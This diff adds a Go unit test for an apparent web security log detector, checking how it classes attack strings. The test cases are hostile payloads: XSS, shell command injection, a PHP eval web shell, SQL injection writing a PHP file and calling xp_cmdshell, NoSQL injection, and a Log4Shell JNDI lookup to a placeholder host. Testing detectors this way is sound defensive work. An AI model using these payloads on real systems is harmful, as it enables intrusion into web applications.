@@ -1,0 +1,30 @@
+package detect_test
+
+import (
+	"net/url"
+	"testing"
+
+	"github.com/gatehouse-dev/caddy-gatehouse/securitylog/detect"
+)
+
+// TestClassesTogether holds which classes a text is told of when it could be several: all that it is, and none that it only resembles.
+func TestClassesTogether(t *testing.T) {
+	d := detect.New(detect.Options{})
+	for text, want := range map[string]detect.Set{
+		";echo '<script>go()</script>'":                                   detect.Of(detect.XSS, detect.CmdI),
+		"<!--#exec cmd=\"ls -l\"--><script>go()</script>":                 detect.Of(detect.XSS, detect.CmdI),
+		"<img src=x onerror=go()><?php eval($_GET[c]); ?>":                detect.Of(detect.XSS, detect.CmdI),
+		"' union select '<?php phpinfo();' into outfile '/srv/a.php' -- ": detect.Of(detect.SQLi, detect.CmdI),
+		"|| 3==3":                                detect.Of(detect.SQLi, detect.NoSQLi),
+		"';return 'q'=='q' && ''=='":             detect.Of(detect.SQLi, detect.NoSQLi),
+		"<xsl:import href='javascript:go()'/>":   detect.Of(detect.XXE, detect.XSS, detect.JS),
+		"<script>eval('go()')</script>":          detect.Of(detect.XSS),
+		"'; exec master..xp_cmdshell 'ping h'--": detect.Of(detect.SQLi),
+		"${${::-j}ndi:ldap://h.example/a}":       detect.Of(detect.Log4Shell),
+		"' or 'q'='q":                            detect.Of(detect.SQLi),
+	} {
+		if found := d.Target("/s?q=" + url.QueryEscape(text)); found.Classes() != want {
+			t.Errorf("%q: found %v", text, found)
+		}
+	}
+}
